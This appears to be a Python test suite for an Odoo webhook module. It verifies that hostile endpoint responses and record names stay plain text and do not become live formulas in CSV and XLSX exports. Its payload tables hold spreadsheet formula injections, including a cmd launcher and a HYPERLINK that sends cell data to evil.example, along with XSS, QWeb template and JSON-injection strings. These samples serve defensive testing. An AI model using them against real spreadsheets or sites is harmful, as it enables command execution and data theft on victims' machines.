"""What an endpoint answers, and what a record says, as it stands in Odoo: text, valid, and no formula in a spreadsheet."""

import csv
import io
import json

import openpyxl
from realodoo.web import RpcError

SUBSCRIPTION, DELIVERY = "mcp.event.subscription", "mcp.webhook.delivery"
KIND = "E. Hostile answers, in Odoo's rows, screens and spreadsheets"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
BODIES = {
    "NUL": b"before\0after",
    "control characters": bytes(range(32)) + b"after",
    "invalid UTF-8": b"\xff\xfe\xc3\x28 \xed\xa0\x80 after",
    "the other direction": "safe \u202etxt.exe\u202c after".encode(),
    "nothing but 0xff": b"\xff" * 1000,
    "more than is kept": b"a" * 200_000,
    "a script": b"<script>alert(1)</script><img src=x onerror=alert(1)>",
    "QWeb": b"<t t-out='env.user.password'/>{{ object.env }}",
    "JSON with NUL": b'{"a": "\\u0000", "b": "\\ud800"}',
    "a number without end": b"1e999999",
    "a million brackets": b"[" * 60_000,
    "a formula": b"=cmd|' /C calc'!A0",
    "a formula with +": b"+1+1",
    "a formula with -": b"-1+1",
    "a formula with @": b"@SUM(1+1)",
    "a formula behind a tab": b"\t=1+1",
    "a formula behind a carriage return": b"\r=1+1",
    "a formula behind a line feed": b"\n=1+1",
    "a hyperlink": b'=HYPERLINK("http://evil.example/?"&A1,"look")',
    "a formula behind NUL": b"\0=1+1",
    "a formula behind a mark of the byte order": b"\xef\xbb\xbf=1+1",
    "a formula in full width": "＝1+1".encode(),
}


def cells(person, form):
    """All cells of an export of every row, and how many of them a spreadsheet takes for formulas."""
    names = ["event_uuid", "payload", "response_body", "error_message", "subscription_name"]
    fields = [{"name": name, "label": name} for name in names]
    data = json.dumps({"model": DELIVERY, "fields": fields, "ids": False, "domain": [], "import_compat": False})
    content = person.session.get(f"/web/export/{form}", data=data)
    if form == "csv":
        found = [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
        return found, sum(cell.startswith(STARTS) for cell in found)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    found = [cell for row in sheet.iter_rows() for cell in row]
    formulas = sum(cell.data_type == "f" or str(cell.value or "").startswith(STARTS) for cell in found)
    return [str(cell.value) for cell in found], formulas


def test_what_an_endpoint_answers_stays_text(line, people, attacks):
    manager = people["manager"]
    made = {}
    for number, (what, body) in enumerate(BODIES.items()):
        path = f"/hostile/{number}"
        line.receiver.answers[path] = lambda _arrival, body=body: (500, body)
        made[what], _path = line.subscribe(
            "res.partner", "create", path=path, name=f"={what}", enrich_fields="name",
            payload_template=json.dumps("{{ record.name }}"),
        )
    line.session.create("res.partner", name="=cmd|' /C calc'!A0")
    for what, subscription in made.items():
        (row,) = line.wait_rows(subscription, "failed")
        assert row["response_code"] == 500 and row["error_kind"] == "http_status", "the answer was taken for what it is"
        body = row["response_body"] or ""
        assert "\0" not in body and len(body.encode()) <= 64 * 1024
        shown = manager.call(DELIVERY, "web_read", [row["id"]], {"response_readable": {}, "payload_readable": {}, "advice": {}, "display_name": {}})
        json.dumps(shown).encode()
        attacks.held(KIND, f"{what}: the row", "one row, valid text, at most 64 KiB")
    described = manager.call(DELIVERY, "fields_get", [])
    kinds = {described[name]["type"] for name in ("payload", "response_body", "error_message", "response_readable", "payload_readable", "advice")}
    assert kinds == {"text"}
    attacks.held(KIND, "HTML in what is shown", "fields of text, never of HTML")
    for form in ("csv", "xlsx"):
        found, formulas = cells(manager, form)
        assert any("cmd|" in cell for cell in found) and any("SUM(1+1)" in cell for cell in found), "they are in the export"
        if formulas:
            attacks.reached(KIND, f"formulas in {form}", f"{formulas} cells")
        attacks.held(KIND, f"formulas in the {form} of all rows", f"{len(found)} cells, no formula")


def test_record_s_own_words_do_not_stop_the_line(line, people, attacks):
    """Lone surrogates and control characters come by JSON into names; PostgreSQL refuses NUL by itself."""
    subscription, path = line.subscribe("res.partner", "create", enrich_fields="name\ncomment")
    words = {"control characters": "a\x01\x02\x1f\x7f", "the other direction": "a\u202eb", "a line separator": "a\u2028b", "a template": "{{ record }}{% if",
             "JSON": '","admin":true,"x":"', "HTML": "</script><script>alert(1)</script>", "half an emoji": "a\ud83d", "NUL": "a\0b"}
    arrived = 0
    for what, name in words.items():
        try:
            people["administrator"].json2("res.partner", "create", vals_list=[{"name": name}])
        except RpcError as error:
            attacks.held(KIND, f"a record named with {what}", f"Odoo itself refuses it: {error.status}")
            continue
        arrived += 1
        (record,) = line.receiver.wait(path, arrived)[-1].json["records"]
        assert set(record) == {"id", "name", "comment"}, record
        attacks.held(KIND, f"a record named with {what}", "arrived as valid JSON, with its own keys")
    assert arrived >= len(words) - 2
    line.wait_rows(subscription, "success", arrived)


def test_endpoint_that_fails_in_turn_makes_no_loop_of_its_own_alerts(line, attacks):
    """The alert about a delivery is a message, and its mail another record: none of them is an event of who watches these."""
    answers = iter(range(1000))
    made = {}
    for model in ("mail.message", "mail.mail", "mail.notification"):
        path = f"/loop/{model}"
        line.receiver.answers[path] = lambda _arrival: (500, b"no") if next(answers) % 2 else (200, b"yes")
        made[model], _path = line.subscribe(model, "create", path=path)
    (partner,) = line.session.read("res.users", [("id", "=", line.session.uid)], "partner_id")
    for subscription in made.values():
        line.session.call(SUBSCRIPTION, "message_subscribe", [subscription], [partner["partner_id"][0]])
    record = line.session.create("res.partner", name="Talked about")
    for number in range(8):
        line.session.call("res.partner", "message_post", [record], body=f"Seed {number}")
        line.sweep()
    control, path = line.subscribe("res.partner", "create", name="control")
    line.session.create("res.partner", name="The last")
    line.receiver.wait(path)
    line.wait_rows(control, "success")
    alerts = line.session.read("mail.message", [("model", "=", SUBSCRIPTION), ("res_id", "in", list(made.values())), ("body", "like", "Deliveries to")], "id")
    assert alerts, "the endpoint that fails in turn was told of"
    ids = {row["id"] for row in alerts}
    for model, subscription in made.items():
        told = {id_ for row in line.rows(subscription) for id_ in row["record_ids"]}
        if model != "mail.message":
            found = line.session.read(model, [("id", "in", list(told))], "mail_message_id")
            told = {row["mail_message_id"][0] for row in found if row["mail_message_id"]}
        if told & ids:
            attacks.reached(KIND, f"a loop through {model}", f"{len(told & ids)} alerts became events")
        attacks.held(KIND, f"an endpoint that fails in turn, watching {model}", "no alert became an event")
